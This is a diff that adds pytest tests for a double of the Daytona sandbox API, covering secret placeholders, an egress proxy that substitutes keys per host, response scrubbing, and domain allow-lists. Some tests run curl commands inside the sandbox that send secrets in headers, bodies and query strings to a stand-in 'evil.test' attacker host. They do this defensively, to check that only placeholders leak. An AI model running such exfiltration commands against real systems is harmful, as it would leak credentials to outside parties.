@@ -4,14 +4,19 @@ rest of the suite relies on holds (status codes, DTOs, events, streaming, errors
 from __future__ import annotations
 
 import asyncio
+import json
+import re
 import time
 from collections.abc import AsyncIterator, Awaitable
 
+import aiohttp
 import pytest
 import pytest_asyncio
 from daytona import (
     AsyncDaytona,
+    AsyncSandbox,
     CreateSandboxFromSnapshotParams,
+    CreateSecretParams,
     DaytonaAuthenticationError,
     DaytonaBadRequestError,
     DaytonaConfig,
@@ -23,9 +28,13 @@ from daytona import (
     DaytonaServiceUnavailableError,
     ListSandboxesQuery,
     SessionExecuteRequest,
+    UpdateSecretParams,
 )
+from daytona_api_client_async.exceptions import BadRequestException, ConflictException, NotFoundException
 
+from tests.doubles.anthropic import HELLO_TEXT, AnthropicDouble, Hang, default_responder
 from tests.doubles.daytona import DaytonaDouble, SnapshotSpec
+from tests.doubles.egress import Attacker, SecretBinding, Scrubber
 
 
 @pytest.fixture(autouse=True)
@@ -226,3 +235,304 @@ async def test_injected_delay_slows_only_the_matching_call(double: DaytonaDouble
     assert time.monotonic() - started >= 0.3
     with pytest.raises(ValueError):
         double.inject("GET", r"^/api/sandbox/", None, body="no status, no body")
+
+
+# --------------------------------------------------------------------------- secrets & egress (§14, §15)
+
+REAL_KEY = "sk-real-0123456789-abcdef"
+
+
+@pytest_asyncio.fixture
+async def raw(double: DaytonaDouble) -> AsyncIterator[aiohttp.ClientSession]:
+    """A plain HTTP client on the control plane, to see status codes and bodies the SDK hides."""
+    headers = {"Authorization": f"Bearer {double.api_key}"}
+    async with aiohttp.ClientSession(f"http://127.0.0.1:{double.port}", headers=headers) as session:
+        yield session
+
+
+async def sandbox_sh(sandbox: AsyncSandbox, command: str) -> str:
+    res = await sandbox.process.exec(command, timeout=30)
+    assert res.exit_code == 0, res.result
+    return res.result
+
+
+async def test_secret_crud_wire_format_and_status_codes(
+    double: DaytonaDouble, client: AsyncDaytona, raw: aiohttp.ClientSession
+) -> None:
+    async with raw.post("/api/secret", json={"name": "anthropic", "value": REAL_KEY, "hosts": ["api.test"]}) as resp:
+        assert resp.status == 201
+        dto = await resp.json()
+    assert set(dto) == {"id", "name", "createdAt", "updatedAt", "placeholder", "hosts"}  # never the value
+    assert re.fullmatch(r"dtn_secret_[0-9a-f]{32}", dto["placeholder"]) and dto["hosts"] == ["api.test"]
+    assert double.secret_named("anthropic").value == REAL_KEY
+
+    made = await client.secret.create(CreateSecretParams(name="gh_token", value="ghp-1", description="d"))
+    assert made.hosts == [] and made.description == "d" and made.placeholder != dto["placeholder"]
+    # SDK 0.226.1: `daytona.secret.*` has no @intercept_errors, so failures are the generated
+    # client's ApiException subclasses (`.status`), not DaytonaError.
+    with pytest.raises(ConflictException) as conflict:
+        await client.secret.create(CreateSecretParams(name="anthropic", value="other"))
+    assert conflict.value.status == 409 and not isinstance(conflict.value, DaytonaError)
+    for bad in ({"name": "1bad", "value": "v"}, {"name": "ok", "value": ""},
+                *({"name": "ok", "value": "v", "hosts": [h]} for h in
+                  ("https://api.test", "api.test:443", "api.test/v1", "*", "a.*.test", ""))):
+        async with raw.post("/api/secret", json=bad) as resp:
+            assert resp.status == 400, bad
+            body = await resp.json()
+            assert isinstance(body["message"], list) and body["error"] == "Bad Request"  # class-validator
+    with pytest.raises(BadRequestException):
+        await client.secret.create(CreateSecretParams(name="has space", value="v"))
+
+    await client.secret.create(CreateSecretParams(name="zeta", value="z", hosts=["*.example.com"]))
+    first = await client.secret.list(limit=2, sort="name", order="asc")
+    assert [s.name for s in first.items] == ["anthropic", "gh_token"] and first.total == 3
+    second = await client.secret.list(cursor=first.next_cursor, limit=2, sort="name", order="asc")
+    assert [s.name for s in second.items] == ["zeta"] and second.next_cursor is None
+    assert [s.name for s in (await client.secret.list(name="TOK")).items] == ["gh_token"]  # partial match
+    async with raw.get("/api/secret/paginated", params={"limit": "201"}) as resp:
+        assert resp.status == 400
+    async with raw.get("/api/secret") as resp:
+        assert resp.status == 200 and len(await resp.json()) == 3
+
+    updated = await client.secret.update(dto["id"], UpdateSecretParams(value="sk-rotated"))
+    assert updated.placeholder == dto["placeholder"] and updated.hosts == ["api.test"]  # PATCH: only value
+    assert double.secret_named("anthropic").value == "sk-rotated"
+    assert (await client.secret.get(dto["id"])).updated_at >= updated.created_at
+    await client.secret.delete(made.id)
+    with pytest.raises(NotFoundException):
+        await client.secret.get(made.id)
+    async with raw.delete(f"/api/secret/{made.id}") as resp:
+        assert resp.status == 404
+
+
+async def test_sandbox_holds_only_the_placeholder(
+    double: DaytonaDouble, client: AsyncDaytona, raw: aiohttp.ClientSession
+) -> None:
+    secret = await client.secret.create(CreateSecretParams(name="anthropic", value=REAL_KEY, hosts=["api.test"]))
+    with pytest.raises(DaytonaBadRequestError, match="Secret nope not found"):
+        await client.create(params(secrets={"ANTHROPIC_API_KEY": "nope"}))
+    sandbox = await client.create(params(secrets={"ANTHROPIC_API_KEY": "anthropic"}, env_vars={"PLAIN": "p"}))
+    assert double.sandbox_secrets(sandbox.id) == {"ANTHROPIC_API_KEY": "anthropic"}
+    assert REAL_KEY not in json.dumps(sandbox.env)  # not in the DTO either
+
+    printed = await sandbox_sh(sandbox, "printenv")
+    assert f"ANTHROPIC_API_KEY={secret.placeholder}\n" in printed and REAL_KEY not in printed
+    await sandbox_sh(sandbox, 'echo "$ANTHROPIC_API_KEY" > key.txt; env > env.txt')
+    await sandbox.process.create_session("s")
+    await sandbox.process.execute_session_command(
+        "s", SessionExecuteRequest(command="sh -c 'sleep 30; true' \"$ANTHROPIC_API_KEY\"", run_async=True)
+    )
+    await asyncio.sleep(0.2)
+    procs = double.processes(sandbox.id)
+    assert any(secret.placeholder in cmdline for _, cmdline in procs)
+    for pid, cmdline in procs:
+        assert REAL_KEY not in cmdline
+        with open(f"/proc/{pid}/environ", "rb") as fh:
+            assert REAL_KEY.encode() not in fh.read()
+    root = double.sandbox(sandbox.id).root
+    for path in root.rglob("*"):
+        if path.is_file():
+            assert REAL_KEY.encode() not in path.read_bytes(), path
+    # The one API that does return plaintext (§14.2), to the API key holder only.
+    async with raw.get(f"/api/sandbox/{sandbox.id}/secrets") as resp:
+        assert await resp.json() == [
+            {"env": "ANTHROPIC_API_KEY", "placeholder": secret.placeholder, "value": REAL_KEY, "hosts": ["api.test"]}
+        ]
+
+
+async def test_egress_substitutes_in_headers_for_the_secret_hosts_only(
+    double: DaytonaDouble, client: AsyncDaytona, attacker: Attacker
+) -> None:
+    async with Attacker() as trusted:
+        double.hosts.update({"api.trusted.test": trusted.ip, "evil.test": attacker.ip})
+        key = await client.secret.create(
+            CreateSecretParams(name="key", value=REAL_KEY, hosts=["*.trusted.test"])
+        )
+        anywhere = await client.secret.create(CreateSecretParams(name="loose", value="loose-value"))
+        sandbox = await client.create(params(secrets={"KEY": "key", "LOOSE": "loose"}))
+        good = f"http://api.trusted.test:{trusted.port}"
+        evil = f"http://evil.test:{attacker.port}"
+
+        seen = await sandbox_sh(sandbox, f'curl -s -D - -H "Authorization: Bearer $KEY" {good}/v1/ok')
+        assert trusted.hits[-1].header("Authorization") == f"Bearer {REAL_KEY}"
+        assert f"X-Echo-Authorization: Bearer {key.placeholder}" in seen  # response headers scrubbed
+        assert REAL_KEY not in seen and key.placeholder in seen  # and the echoed body
+
+        # Same header to another host; the key in body and URL even to the trusted host.
+        await sandbox_sh(sandbox, f'curl -s -H "x-api-key: $KEY" -H "X-Loose: $LOOSE" {evil}/steal')
+        await sandbox_sh(sandbox, f'curl -s -d "k=$KEY" "{good}/q?k=$KEY"')
+        await sandbox_sh(sandbox, f'curl -s -d "k=$KEY" "{evil}/q?k=$KEY"')
+        assert not attacker.seen(REAL_KEY) and attacker.seen(key.placeholder)
+        assert attacker.hits[0].header("x-api-key") == key.placeholder
+        assert attacker.hits[0].header("X-Loose") == "loose-value"  # no hosts = any destination
+        posted = trusted.hits[-1]
+        assert posted.path == f"/q?k={key.placeholder}" and posted.body == f"k={key.placeholder}".encode()
+
+        log = double.egress_requests(sandbox.id)
+        assert [(r.host, r.substituted) for r in log] == [
+            ("api.trusted.test", ["key"]), ("evil.test", ["loose"]), ("api.trusted.test", []), ("evil.test", []),
+        ]
+        assert anywhere.hosts == []
+
+
+async def test_update_secrets_needs_a_restart_when_created_without(
+    double: DaytonaDouble, client: AsyncDaytona, attacker: Attacker
+) -> None:
+    double.hosts["api.trusted.test"] = attacker.ip
+    secret = await client.secret.create(CreateSecretParams(name="key", value=REAL_KEY, hosts=["api.trusted.test"]))
+    sandbox = await client.create(params())
+    send = f'curl -s -o /dev/null -H "Authorization: $KEY" http://api.trusted.test:{attacker.port}/'
+    await sandbox.update_secrets({"KEY": "key"})
+    assert double.sandbox_secrets(sandbox.id) == {"KEY": "key"}
+    assert await sandbox_sh(sandbox, 'printf %s "$KEY"') == secret.placeholder  # new processes see it
+    await sandbox_sh(sandbox, send)
+    assert attacker.hits[-1].header("Authorization") == secret.placeholder  # not substituted yet (§14.3)
+    await sandbox.stop()
+    await sandbox.start()
+    await sandbox_sh(sandbox, send)
+    assert attacker.hits[-1].header("Authorization") == REAL_KEY
+    await sandbox.update_secrets({})
+    assert await sandbox_sh(sandbox, 'printf %s "${KEY-unset}"') == "unset"
+    with pytest.raises(DaytonaBadRequestError):
+        await sandbox.update_secrets({"KEY": "missing"})
+
+    double.break_substitution(sandbox.id)  # the "stuck sandbox" fault
+    await sandbox.update_secrets({"KEY": "key"})
+    await sandbox_sh(sandbox, send)
+    assert attacker.hits[-1].header("Authorization") == secret.placeholder
+
+
+async def test_domain_allow_list_and_block_all(
+    double: DaytonaDouble, client: AsyncDaytona, attacker: Attacker
+) -> None:
+    async with Attacker() as allowed:
+        double.hosts.update({"api.anthropic.test": allowed.ip, "evil.test": attacker.ip})
+        for bad in ("127.0.0.1", "localhost", "api.anthropic.test:443", ",".join(f"d{i}.test" for i in range(11))):
+            with pytest.raises(DaytonaBadRequestError):
+                await client.create(params(domain_allow_list=bad))
+        sandbox = await client.create(params(domain_allow_list="api.anthropic.test"))
+        assert sandbox.domain_allow_list == "api.anthropic.test" and not sandbox.network_block_all
+        curl = "curl -s -o /dev/null -w %{http_code} "
+        assert await sandbox_sh(sandbox, curl + f"http://api.anthropic.test:{allowed.port}/") == "200"
+        assert await sandbox_sh(sandbox, curl + f"http://evil.test:{attacker.port}/") == "403"
+        assert await sandbox_sh(sandbox, curl + f"http://{attacker.ip}:{attacker.port}/") == "403"
+        assert attacker.hits == [] and len(allowed.hits) == 1
+        assert [r.outcome for r in double.egress_requests(sandbox.id)] == ["forwarded", "blocked", "blocked"]
+        # HTTPS goes through CONNECT: the policy applies, but the tunnel is opaque (no TLS here).
+        refused = await sandbox.process.exec(f"curl -s https://evil.test:{attacker.port}/", timeout=30)
+        tunnelled = await sandbox.process.exec(f"curl -s https://api.anthropic.test:{allowed.port}/", timeout=30)
+        assert (refused.exit_code, tunnelled.exit_code) == (56, 35)  # CONNECT refused / TLS handshake failed
+        assert [(r.method, r.outcome) for r in double.egress_requests(sandbox.id)[-2:]] == [
+            ("CONNECT", "blocked"), ("CONNECT", "tunnelled")
+        ]
+
+        await sandbox.update_network_settings(domain_allow_list="*.anthropic.test, evil.test")
+        assert await sandbox_sh(sandbox, curl + f"http://evil.test:{attacker.port}/") == "200"
+        await sandbox.update_network_settings(network_block_all=True)
+        assert sandbox.network_block_all and sandbox.domain_allow_list is None
+        assert await sandbox_sh(sandbox, curl + f"http://api.anthropic.test:{allowed.port}/") == "403"
+        await sandbox.update_network_settings(network_block_all=False)
+        assert await sandbox_sh(sandbox, curl + f"http://evil.test:{attacker.port}/") == "200"
+
+        blocked = await client.create(params(network_block_all=True))
+        assert await sandbox_sh(blocked, curl + f"http://api.anthropic.test:{allowed.port}/") == "403"
+        assert len(allowed.hits) == 1
+
+
+async def test_egress_streams_unbuffered_and_scrubs(
+    double: DaytonaDouble, client: AsyncDaytona, attacker: Attacker
+) -> None:
+    double.hosts["api.trusted.test"] = attacker.ip
+    secret = await client.secret.create(CreateSecretParams(name="key", value=REAL_KEY, hosts=["api.trusted.test"]))
+    sandbox = await client.create(params(secrets={"KEY": "key"}))
+    url = f"http://api.trusted.test:{attacker.port}/stream?n=3&delay=0.4"
+    arrivals = []
+    started = time.monotonic()
+    async with aiohttp.ClientSession() as session:
+        headers = {"Authorization": secret.placeholder}
+        async with session.get(url, proxy=double.egress_proxy_url(sandbox.id), headers=headers) as resp:
+            async for line in resp.content:
+                arrivals.append((time.monotonic() - started, line.decode()))
+    assert [text for _, text in arrivals] == [f"line {n} {secret.placeholder}\n" for n in range(3)]
+    assert arrivals[0][0] < 0.3, "the first line must not wait for the rest of the body"
+    assert attacker.hits[-1].header("Authorization") == REAL_KEY
+
+
+async def test_egress_keeps_alive_carries_big_bodies_and_drops_the_upstream_of_a_dead_client(
+    double: DaytonaDouble, client: AsyncDaytona, attacker: Attacker
+) -> None:
+    double.hosts["evil.test"] = attacker.ip
+    sandbox = await client.create(params())
+    base = f"http://evil.test:{attacker.port}"
+    await sandbox_sh(sandbox, "head -c 3000000 /dev/zero | tr '\\0' x > big")
+    out = await sandbox_sh(sandbox, f"curl -s -o /dev/null -o /dev/null -w '%{{size_download}} %{{num_connects}}\\n' "
+                                    f"--data-binary @big {base}/one {base}/two")
+    assert [line.split()[1] for line in out.splitlines()] == ["1", "0"]  # 2nd request reused the connection
+    assert int(out.split()[0]) > 3_000_000  # the echo of a 3 MB body came back whole
+    assert [len(hit.body) for hit in attacker.hits] == [3_000_000, 3_000_000]
+
+    res = await sandbox.process.exec(f"curl -s --max-time 1 '{base}/stream?n=2&delay=30'", timeout=30)
+    assert res.exit_code == 28  # curl's timeout: it went away mid-stream
+    for _ in range(40):
+        if attacker.dropped:
+            break
+        await asyncio.sleep(0.05)
+    assert [hit.path for hit in attacker.dropped] == ["/stream?n=2&delay=30"], "upstream kept open"
+
+
+def test_scrubber_catches_values_split_across_chunks() -> None:
+    scrub = Scrubber([SecretBinding("k", "PH", "REALVALUE")])
+    out = scrub.feed(b"data: REAL") + scrub.feed(b"VALUE and REALV") + scrub.feed(b"ALUE\n\n")
+    assert out + scrub.flush() == b"data: PH and PH\n\n"
+    assert scrub.feed(b"event: x\n\n") == b"event: x\n\n"  # nothing held back after a frame
+
+
+async def test_claude_code_sends_the_real_key_only_via_the_egress(
+    daytona_double: DaytonaDouble, anthropic_double: AnthropicDouble
+) -> None:
+    """The real CLI, in a double sandbox holding only the placeholder, authenticates with the
+    real key: its proxy-aware HTTP client sends through the sandbox's egress, which swaps it in."""
+    real_key = anthropic_double.api_key
+    assert real_key is not None
+    daytona_double.hosts["api.anthropic.test"] = "127.0.0.1"
+    env = {
+        "ANTHROPIC_BASE_URL": f"http://api.anthropic.test:{anthropic_double.port}",
+        "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
+        "CLAUDE_CODE_MAX_RETRIES": "0",
+    }
+    async with AsyncDaytona(DaytonaConfig(api_key=daytona_double.api_key, api_url=daytona_double.api_url)) as d:
+        secret = await d.secret.create(
+            CreateSecretParams(name="anthropic", value=real_key, hosts=["api.anthropic.test"])
+        )
+        sandbox = await d.create(
+            params(env_vars=env, secrets={"ANTHROPIC_API_KEY": "anthropic"}, domain_allow_list="api.anthropic.test")
+        )
+        assert await sandbox_sh(sandbox, 'printf %s "$ANTHROPIC_API_KEY"') == secret.placeholder
+        res = await sandbox.process.exec("claude -p 'say hi' --output-format json", timeout=120)
+        result = json.loads(res.result.strip().splitlines()[-1])
+        assert result["result"] == HELLO_TEXT and not result["is_error"], res.result
+        assert [r.headers["x-api-key"] for r in anthropic_double.requests] == [real_key]
+        [sent] = daytona_double.egress_requests(sandbox.id)  # only the API call, nothing else
+        assert sent.method == "POST" and sent.substituted == ["anthropic"]
+        assert real_key not in res.result
+
+        # Killing the CLI mid-stream reaches the API through the proxy (cancel tests rely on it).
+        anthropic_double.responder = lambda body: Hang("partial")
+        await sandbox.process.create_session("run")
+        await sandbox.process.execute_session_command(
+            "run", SessionExecuteRequest(command="claude -p 'hang' --output-format json < /dev/null", run_async=True)
+        )
+        while len(anthropic_double.requests) < 2:
+            await asyncio.sleep(0.05)
+        await sandbox.process.delete_session("run")  # kills the process group
+        for _ in range(40):
+            if anthropic_double.requests[-1].disconnected:
+                break
+            await asyncio.sleep(0.05)
+        assert anthropic_double.requests[-1].disconnected
+
+        anthropic_double.responder = default_responder
+        daytona_double.break_substitution(sandbox.id)  # a stuck sandbox: the provider says 401
+        res = await sandbox.process.exec("claude -p 'say hi' --output-format json", timeout=120)
+        assert json.loads(res.result.strip().splitlines()[-1])["is_error"]
+        assert anthropic_double.requests[-1].headers["x-api-key"] == secret.placeholder
